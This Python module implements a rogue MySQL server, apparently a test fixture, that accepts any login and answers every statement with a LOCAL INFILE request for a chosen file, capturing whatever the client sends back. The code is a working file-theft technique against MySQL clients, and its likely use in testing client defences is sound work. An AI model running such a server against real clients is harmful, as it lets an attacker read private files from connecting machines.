"""A server that speaks just enough of MySQL's protocol to ask its client for a file."""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

_GREETING = (
    b"\x0a" + b"10.11.0-MariaDB\0" + struct.pack("<I", 1) + b"12345678\0"
    + b"\xff\xf7" + b"\x2d" + b"\x02\x00" + b"\xff\x81" + b"\x15" + b"\0" * 10 + b"123456789012\0"
    + b"mysql_native_password\0"
)  # fmt: skip
_OK = b"\0\0\0\x02\0\0\0"


class Rogue:
    """Lets anyone in, and answers every statement with «send me this file»."""

    def __init__(self, path: Path, wanted: Path) -> None:
        self.path = path
        self.received = b""
        self._wanted = wanted
        self._client: socket.socket | None = None
        self._listener = socket.socket(socket.AF_UNIX)
        self._listener.bind(str(path))
        self._listener.listen()
        self._thread = threading.Thread(target=self._run)
        self._thread.start()

    def _run(self) -> None:
        with suppress(OSError):
            while True:
                self._client, _ = self._listener.accept()
                with self._client, suppress(OSError):
                    self._serve(self._client)

    def _serve(self, client: socket.socket) -> None:
        client.sendall(_packet(0, _GREETING))
        client.recv(1 << 16)  # whoever it says it is
        client.sendall(_packet(2, _OK))
        while data := client.recv(1 << 16):
            self.received += data
            if data[4:5] == b"\x03":  # a statement
                client.sendall(_packet(1, b"\xfb" + str(self._wanted).encode()))

    def close(self) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        if self._client is not None:
            with suppress(OSError):
                self._client.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._thread.join()


def _packet(number: int, payload: bytes) -> bytes:
    return struct.pack("<I", len(payload))[:3] + bytes([number]) + payload


@contextmanager
def rogue(path: Path, wanted: Path) -> Iterator[Rogue]:
    opened = Rogue(path, wanted)
    try:
        yield opened
    finally:
        opened.close()
